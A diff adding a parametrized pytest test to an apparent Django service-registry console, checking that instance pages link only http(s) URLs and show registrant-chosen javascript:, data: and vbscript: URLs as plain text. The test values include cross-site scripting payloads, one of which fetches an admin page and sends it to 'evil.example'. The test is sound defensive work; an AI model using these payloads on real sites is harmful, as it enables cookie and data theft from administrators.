@@ -169,3 +169,35 @@ def test_instance_page_of_a_gone_instance_is_404_but_keeps_its_history(web, node
 def test_instance_index_sends_readers_to_the_console(web):
     response = web.get("/instances/")
     assert response.status_code == 302 and response["Location"] == "/"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(document.cookie)",
+        "JavaScript:fetch('/admin/').then(r=>r.text()).then(t=>fetch('//evil.example/?'+t))",
+        " javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:msgbox(1)",
+    ],
+)
+def test_instance_page_links_only_http_urls_and_shows_the_others_as_text(web, admin_client, url):
+    """A registrant chooses its URLs: only http(s) ones become links, as on the status page."""
+    instance_id = register(
+        web,
+        host="10.0.0.1",
+        homePageUrl=url,
+        statusPageUrl=url,
+        healthCheckUrl=url,
+        secureHealthCheckUrl="https://10.0.0.1:8443/health",
+    )
+    for client in (web, admin_client):
+        page = soup(client.get(f"/instances/ORDERS/{instance_id}/"))
+        links = {a.get_text(): a["href"] for a in page.select("#fields a")}
+        assert links == {"https://10.0.0.1:8443/health": "https://10.0.0.1:8443/health"}
+        fields = kv(page.select_one("#fields"))
+        for name in ("homePageUrl", "statusPageUrl", "healthCheckUrl"):
+            assert fields[name] == " ".join(url.split()), name
+        hrefs = [a["href"].strip().lower() for a in page.select("a[href]")]
+        assert not [href for href in hrefs if not href.startswith(("/", "http://", "https://", "?"))]
